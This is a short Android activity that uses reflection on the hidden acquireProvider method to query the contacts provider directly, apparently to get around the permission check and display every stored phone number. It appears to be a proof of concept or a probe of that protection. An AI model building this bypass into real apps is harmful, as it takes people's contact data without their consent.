package com.example.acquired;

import android.app.Activity;
import android.content.ContentResolver;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.widget.TextView;
import java.lang.reflect.Method;

/** Goes around the resolver: takes the provider's own interface by reflection and asks that. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        show(readAll());
    }

    private String readAll() {
        StringBuilder text = new StringBuilder();
        Uri place = ContactsContract.CommonDataKinds.Phone.CONTENT_URI;
        try {
            Method acquire = ContentResolver.class.getDeclaredMethod("acquireProvider", Uri.class);
            acquire.setAccessible(true);
            Object provider = acquire.invoke(getContentResolver(), place);
            for (Method each : provider.getClass().getMethods()) {
                if (each.getName().equals("query")) {
                    Cursor cursor = (Cursor) each.invoke(provider, getPackageName(), place, null, null, null);
                    while (cursor.moveToNext()) {
                        text.append(cursor.getString(cursor.getColumnIndex("data1"))).append('\n');
                    }
                }
            }
        } catch (ReflectiveOperationException refused) {
            text.append("none");
        }
        return text.toString();
    }

    private void show(String text) {
        TextView view = new TextView(this);
        view.setText(text);
        setContentView(view);
    }
}
